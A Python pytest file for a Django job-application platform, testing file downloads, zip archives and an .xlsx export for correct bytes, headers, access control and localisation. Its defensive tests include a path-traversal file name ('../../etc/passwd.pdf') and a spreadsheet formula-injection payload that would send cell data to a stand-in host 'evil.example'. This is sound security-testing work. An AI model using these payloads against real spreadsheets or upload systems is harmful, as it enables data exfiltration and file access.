"""What the issuer (and the applicant) take away: single files, zip archives
and the .xlsx export, byte for byte and cell by cell."""

import hashlib
import io
import zipfile
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from nidaa.applications.models import ApplicationFile
from tests.applications.conftest import PDF, docx_bytes
from tests.applications.issuer_helpers import (
    draft_application,
    draft_file,
    emailed_application,
    issuer_call,
    web_application,
)
from tests.conftest import client_for
from tests.factories import UserFactory

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
CASABLANCA = ZoneInfo("Africa/Casablanca")
PDF_2 = b"%PDF-1.7\n% version 2\n%%EOF\n"


def _body(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def amina(db):
    return UserFactory(
        username="amina", email="amina@example.org", first_name="Amina", last_name="El Idrissi"
    )


@pytest.fixture
def opened(org):
    # Mid-January: Morocco is at UTC+1 (no Ramadan shift), so local times are certain.
    return issuer_call(org, opened=True, deadline=datetime(2025, 1, 15, 23, 59, tzinfo=CASABLANCA))


def _files(cv_name="CV Amina.pdf", cv=PDF, letter_name="Lettre.docx"):
    return {
        "cv": SimpleUploadedFile(cv_name, cv, "application/pdf"),
        "cover_letter": SimpleUploadedFile(letter_name, docx_bytes(), "application/octet-stream"),
    }


# --- one file ---------------------------------------------------------------


def test_owner_downloads_the_exact_bytes_as_an_attachment_with_the_detected_type(opened, owner, amina):
    version = web_application(opened, amina, files=_files())
    cv = version.files.get(piece="cv")
    letter = version.files.get(piece="cover_letter")
    client = client_for(owner)

    response = client.get(reverse("applications:file", args=[cv.pk]))
    assert response.status_code == 200
    assert _body(response) == PDF
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="CV Amina.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Length"] == str(len(PDF))

    response = client.get(reverse("applications:file", args=[letter.pk]))
    assert _body(response) == docx_bytes()
    assert response["Content-Type"] == DOCX_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="Lettre.docx"'


def test_arabic_file_name_is_sent_as_rfc_5987(opened, owner, amina):
    version = web_application(opened, amina, files=_files(cv_name="سيرة ذاتية.pdf"))
    cv = version.files.get(piece="cv")

    response = client_for(owner).get(reverse("applications:file", args=[cv.pk]))

    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%D8%B3%D9%8A%D8%B1%D8%A9%20%D8%B0%D8%A7%D8%AA%D9%8A%D8%A9.pdf"
    )
    assert _body(response) == PDF


def test_a_name_that_looks_like_html_is_still_a_pdf_attachment(opened, owner, amina):
    # The type comes from the content detected at upload, never from the name.
    version = web_application(opened, amina, files=_files(cv_name="page.html"))
    cv = version.files.get(piece="cv")

    response = client_for(owner).get(reverse("applications:file", args=[cv.pk]))

    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="page.html"'


def test_applicant_downloads_earlier_versions_and_drafts_the_issuer_cannot(opened, owner, amina):
    first = web_application(
        opened, amina, files=_files(cv_name="v1.pdf"), at=opened.deadline - timedelta(days=2)
    )
    web_application(
        opened, amina, files=_files(cv_name="v2.pdf", cv=PDF_2), at=opened.deadline - timedelta(days=1)
    )
    old_cv = first.files.get(piece="cv")
    pending = draft_file(first.application, name="v3.pdf", data=b"%PDF-1.7\n% draft\n%%EOF\n")

    mine = client_for(amina)
    assert _body(mine.get(reverse("applications:file", args=[old_cv.pk]))) == PDF
    assert _body(mine.get(reverse("applications:file", args=[pending.pk]))) == b"%PDF-1.7\n% draft\n%%EOF\n"
    staff = client_for(owner)
    assert staff.get(reverse("applications:file", args=[old_cv.pk])).status_code == 404
    assert staff.get(reverse("applications:file", args=[pending.pk])).status_code == 404


def test_file_missing_from_storage_is_a_404_not_a_crash(opened, owner, amina):
    cv = web_application(opened, amina).files.get(piece="cv")
    cv.file.storage.delete(cv.file.name)
    assert client_for(owner).get(reverse("applications:file", args=[cv.pk])).status_code == 404


# --- zip ------------------------------------------------------------------


def _zip(response) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(_body(response)))


def test_zip_of_one_application_holds_its_latest_version_named_by_piece(opened, owner, amina):
    web_application(opened, amina, files=_files(cv_name="ancien.pdf"), at=opened.deadline - timedelta(days=2))
    version = web_application(
        opened, amina, files=_files(cv_name="CV Amina.pdf", cv=PDF_2), at=opened.deadline - timedelta(days=1)
    )
    draft_file(version.application, name="brouillon.pdf")
    receipt = version.application.receipt_number

    response = client_for(owner).get(reverse("applications:application_zip", args=[version.application_id]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"] == f'attachment; filename="{receipt}.zip"'
    assert response["X-Content-Type-Options"] == "nosniff"
    archive = _zip(response)
    assert {info.filename: archive.read(info) for info in archive.infolist()} == {
        f"{receipt}_amina-el-idrissi/Lettre de motivation_Lettre.docx": docx_bytes(),
        f"{receipt}_amina-el-idrissi/CV_CV Amina.pdf": PDF_2,
    }
    assert archive.testzip() is None
    # Stamped with the receipt time in the call's zone (2025-01-14 23:59 Casablanca).
    assert archive.getinfo(f"{receipt}_amina-el-idrissi/CV_CV Amina.pdf").date_time == (
        2025,
        1,
        14,
        23,
        59,
        0,
    )
    # Already-compressed formats are stored as they are, PDFs deflated.
    assert archive.getinfo(f"{receipt}_amina-el-idrissi/Lettre de motivation_Lettre.docx").compress_type == 0
    assert (
        archive.getinfo(f"{receipt}_amina-el-idrissi/CV_CV Amina.pdf").compress_type == zipfile.ZIP_DEFLATED
    )


def test_zip_of_a_call_has_one_folder_per_application_and_no_draft(opened, owner, amina):
    web = web_application(opened, amina, files=_files(cv_name="CV Amina.pdf"))
    arabic = web_application(
        opened,
        UserFactory(username="y", first_name="يوسف", last_name="العلوي"),
        files=_files(cv_name="سيرة.pdf", letter_name="رسالة.docx"),
    )
    mailed = emailed_application(
        opened,
        email="said@example.net",
        name="",
        files={"cv": ("../../etc/passwd.pdf", PDF), "other": ("cv.pdf", PDF_2)},
        late=True,
    )
    draft_application(opened, UserFactory(username="hind"))
    r1, r2, r3 = (v.application.receipt_number for v in (web, arabic, mailed))

    response = client_for(owner).get(reverse("applications:call_zip", args=[opened.pk]))

    assert response["Content-Disposition"] == f'attachment; filename="applications-{opened.pk}.zip"'
    archive = _zip(response)
    assert {info.filename: archive.read(info) for info in archive.infolist()} == {
        f"{r1}_amina-el-idrissi/Lettre de motivation_Lettre.docx": docx_bytes(),
        f"{r1}_amina-el-idrissi/CV_CV Amina.pdf": PDF,
        f"{r2}_يوسف-العلوي/Lettre de motivation_رسالة.docx": docx_bytes(),
        f"{r2}_يوسف-العلوي/CV_سيرة.pdf": PDF,
        # A sender without a name is named by address; a path in a name goes nowhere.
        f"{r3}_saidexamplenet/CV_passwd.pdf": PDF,
        f"{r3}_saidexamplenet/Autres fichiers_cv.pdf": PDF_2,
    }
    # Non-ASCII names are flagged UTF-8, so every unzip tool reads them as written.
    assert archive.getinfo(f"{r2}_يوسف-العلوي/CV_سيرة.pdf").flag_bits & 0x800


def test_zip_lists_a_file_missing_from_storage_instead_of_dropping_it(opened, owner, amina):
    version = web_application(opened, amina, files=_files())
    cv = version.files.get(piece="cv")
    cv.file.storage.delete(cv.file.name)
    receipt = version.application.receipt_number

    archive = _zip(client_for(owner).get(reverse("applications:call_zip", args=[opened.pk])))

    assert archive.namelist() == [
        f"{receipt}_amina-el-idrissi/Lettre de motivation_Lettre.docx",
        "MISSING.txt",
    ]
    assert archive.read("MISSING.txt").decode() == (
        f"{receipt}_amina-el-idrissi/CV_CV Amina.pdf\t{hashlib.sha256(PDF).hexdigest()}\n"
    )


def test_zip_is_spooled_to_disk_past_its_memory_budget(opened, owner, amina, monkeypatch):
    from nidaa.applications import exports

    monkeypatch.setattr(exports, "SPOOL_BYTES", 64)
    web_application(opened, amina, files=_files())
    archive = exports.zip_file(
        call=opened,
        applications=[opened.applications.get()],
        files=ApplicationFile.objects.filter(application__call=opened),
        language="fr",
    )
    assert archive._rolled is True  # type: ignore[attr-defined]
    archive.close()


# --- xlsx -----------------------------------------------------------------


def _sheet(response):
    workbook = load_workbook(io.BytesIO(_body(response)))
    assert len(workbook.worksheets) == 1
    return workbook.worksheets[0]


def test_xlsx_has_one_row_per_application_and_one_column_per_piece(opened, owner, amina):
    web = web_application(opened, amina, files=_files(), at=opened.deadline - timedelta(hours=5))
    second = web_application(
        opened, amina, files=_files(cv_name="CV 2.pdf", cv=PDF_2), at=opened.deadline - timedelta(hours=4)
    )
    mailed = emailed_application(
        opened,
        email="said@example.net",
        name="سعيد بناني",
        files={"cv": ("سيرة.pdf", PDF), "other": ("annexe.pdf", PDF_2)},
        late=True,
    )
    draft_application(opened, UserFactory(username="hind"))

    response = client_for(owner).get("/en" + reverse("applications:call_xlsx", args=[opened.pk])[3:])

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f'attachment; filename="applications-{opened.pk}.xlsx"'
    sheet = _sheet(response)
    assert sheet.title == "Applications"
    assert sheet.freeze_panes == "A2"
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows == [
        [
            "Receipt number",
            "Applicant",
            "Applying as",
            "Firm or organisation",
            "E-mail",
            "Telephone",
            "Languages",
            "Region",
            "Channel",
            "Received at",
            "Complete",
            "Missing pieces",
            "Late",
            "Versions",
            "CV",
            "Cover letter",
            "Other files",
        ],
        [
            web.application.receipt_number,
            "Amina El Idrissi",
            "Individual",
            None,
            "amina@example.org",
            None,
            None,
            None,
            "Web",
            datetime(2025, 1, 15, 19, 59),  # the second version's time, in Casablanca
            "yes",
            None,
            "no",
            2,
            "CV 2.pdf",
            "Lettre.docx",
            None,
        ],
        [
            mailed.application.receipt_number,
            "سعيد بناني",
            "Individual",
            None,
            "said@example.net",
            None,
            None,
            None,
            "E-mail",
            datetime(2025, 1, 16, 0, 59),
            "no",
            "Cover letter",
            "yes",
            1,
            "سيرة.pdf",
            None,
            "annexe.pdf",
        ],
    ]
    assert second.application_id == web.application_id
    assert [cell.font.b for cell in sheet[1]] == [True] * 17
    assert [cell.font.b for cell in sheet[2]] == [False] * 17


def test_xlsx_headers_and_sheet_title_follow_the_language_of_the_page(opened, owner, amina):
    web_application(opened, amina, files=_files())

    response = client_for(owner).get("/ar" + reverse("applications:call_xlsx", args=[opened.pk])[3:])

    sheet = _sheet(response)
    with translation.override("ar"):
        assert sheet.title == translation.gettext("Applications")[:31]
        assert [cell.value for cell in sheet[1]][:5] == [
            translation.gettext("Receipt number"),
            translation.gettext("Applicant"),
            translation.gettext("Applying as"),
            translation.gettext("Firm or organisation"),
            translation.gettext("E-mail"),
        ]
        assert sheet["I2"].value == translation.gettext("Web")
        assert sheet["K2"].value == translation.gettext("yes")


def test_empty_opened_call_exports_the_header_row_only(opened, owner):
    sheet = _sheet(client_for(owner).get(reverse("applications:call_xlsx", args=[opened.pk])))
    assert sheet.max_row == 1


def test_xlsx_writes_an_applicants_formula_as_text_not_a_formula(opened, owner):
    # Issue 10, item 7: names and file names chosen by applicants, written as
    # formulas, became live links (=HYPERLINK) in the issuer's spreadsheet.
    emailed_application(
        opened,
        email="eve@example.net",
        name='=HYPERLINK("http://evil.example/?d="&A2,"Amina")',
        files={"cv": ("=1+1.pdf", PDF), "other": ("@SUM(A1).pdf", PDF_2)},
    )

    response = client_for(owner).get("/en" + reverse("applications:call_xlsx", args=[opened.pk])[3:])

    workbook = load_workbook(io.BytesIO(_body(response)))
    row = list(workbook.worksheets[0].iter_rows(min_row=2))[0]
    cells = {cell.column_letter: cell for cell in row}
    assert (cells["B"].value, cells["B"].data_type) == (
        '=HYPERLINK("http://evil.example/?d="&A2,"Amina")',
        "s",
    )
    assert (cells["O"].value, cells["O"].data_type) == ("=1+1.pdf", "s")
    assert (cells["Q"].value, cells["Q"].data_type) == ("@SUM(A1).pdf", "s")
    assert [cell.data_type for cell in row if cell.value is not None and cell.data_type == "f"] == []
